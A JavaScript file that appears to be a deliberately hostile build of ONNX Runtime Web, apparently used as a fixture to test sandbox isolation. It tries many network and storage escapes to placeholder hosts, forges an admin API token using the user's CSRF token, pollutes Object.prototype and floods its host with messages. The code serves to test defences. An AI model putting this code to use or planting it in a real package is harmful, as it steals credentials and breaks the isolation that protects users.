// A release of ONNX Runtime Web that attacks whoever imports it. FARM and ELSEWHERE stand for addresses; whatever came
// through is what it answers, in the form of a reason.
const FARM = "{farm}";
const ELSEWHERE = "{elsewhere}";
const within = (promise, ms = 3000) =>
  Promise.race([promise, new Promise((_, failed) => setTimeout(() => failed(new Error("late")), ms))]);
const heard = (target, good, bad = "error") =>
  within(new Promise((done, failed) => {
    target.addEventListener(good, done, { once: true });
    target.addEventListener(bad, () => failed(new Error(bad)), { once: true });
  }));
const asked = async (address) => {
  const request = new XMLHttpRequest();
  request.open("GET", address);
  request.send();
  await heard(request, "load");
};
const child = (text, type) => new Worker(URL.createObjectURL(new Blob([text], { type: "text/javascript" })), { type });
const childFetches = (type) =>
  heard(child(`fetch("${FARM}/sign-in/?nested").then(() => postMessage(1), () => reportError(1))`, type), "message");
const made = (name, ...args) => {
  if (!(name in self)) throw new Error("none");
  return new self[name](...args);
};

const attacks = {
  "a token of who is signed in": async () => {
    const page = await (await fetch(`${FARM}/settings/`, { credentials: "include" })).text();
    const [, token] = page.match(/name="csrfmiddlewaretoken" value="([^"]+)"/);
    const body = new URLSearchParams({ csrfmiddlewaretoken: token, name: "stolen", scopes: "admin" });
    const answer = await fetch(`${FARM}/settings/tokens/`, { method: "POST", body, credentials: "include" });
    if (!answer.ok) throw new Error(answer.status);
  },
  "fetch": () => fetch(`${FARM}/sign-in/?fetch`),
  "fetch elsewhere": () => fetch(`${ELSEWHERE}/fetch`, { mode: "no-cors" }),
  "fetch kept alive": () => fetch(`${ELSEWHERE}/keepalive`, { mode: "no-cors", keepalive: true }),
  "XMLHttpRequest": () => asked(`${FARM}/sign-in/?xhr`),
  "WebSocket": () => heard(new WebSocket(`${ELSEWHERE.replace("http", "ws")}/websocket`), "open"),
  "EventSource": () => heard(new EventSource(`${ELSEWHERE}/events`), "open"),
  "WebTransport": () => within(made("WebTransport", `${ELSEWHERE.replace("http", "https")}/transport`).ready),
  "RTCPeerConnection": async () => made("RTCPeerConnection"),
  "sendBeacon": async () => {
    if (!navigator.sendBeacon(`${ELSEWHERE}/beacon`)) throw new Error("refused");
  },
  "importScripts": async () => importScripts(`${FARM}/api/node/v1/tab/main.js?scripts`),
  "import": () => within(import(`${FARM}/api/node/v1/tab/contract.js?import`)),
  "import elsewhere": () => within(import(`${ELSEWHERE}/module.js`)),
  "a worker of the farm": () => heard(new Worker(`${FARM}/api/node/v1/tab/contract.js?worker`, { type: "module" }), "message"),
  "a classic worker that fetches": () => childFetches("classic"),
  "a module worker that fetches": () => childFetches("module"),
  "a worker of data that fetches": () =>
    heard(new Worker(`data:text/javascript,fetch("${FARM}/sign-in/?data",{mode:"no-cors"}).then(()=>postMessage(1))`), "message"),
  "SharedWorker": async () => made("SharedWorker", `${FARM}/api/node/v1/tab/contract.js?shared`),
  "a service worker": () => navigator.serviceWorker.register(`${FARM}/api/node/v1/tab/contract.js?service`),
  "FontFace": () => within(new FontFace("f", `url(${ELSEWHERE}/font)`).load()),
  "IndexedDB": () => heard(indexedDB.open("onnxfarm-node"), "success"),
  "Cache": () => caches.open("onnxfarm-runtimes"),
  "files of the origin": () => navigator.storage.getDirectory(),
  "locks": () => within(navigator.locks.request("x", () => undefined)),
  "cookies": () => cookieStore.getAll(),
  "a document": async () => document.createElement("iframe"),
  "a window": async () => self.open(ELSEWHERE),
  "navigation": async () => location.assign(`${ELSEWHERE}/navigation`),
  "the page": async () => parent.postMessage("hello", "*"),
};

new BroadcastChannel("onnxfarm").postMessage("hello");
const through = [];
for (const [name, attack] of Object.entries(attacks)) {
  try {
    await attack();
    through.push(name);
  } catch {
    // this one did not come through
  }
}
Object.prototype.reason = "polluted";
for (let times = 0; times < 100; times++) self.postMessage({ reason: { code: "crashed", text: `through: ${through}` } });
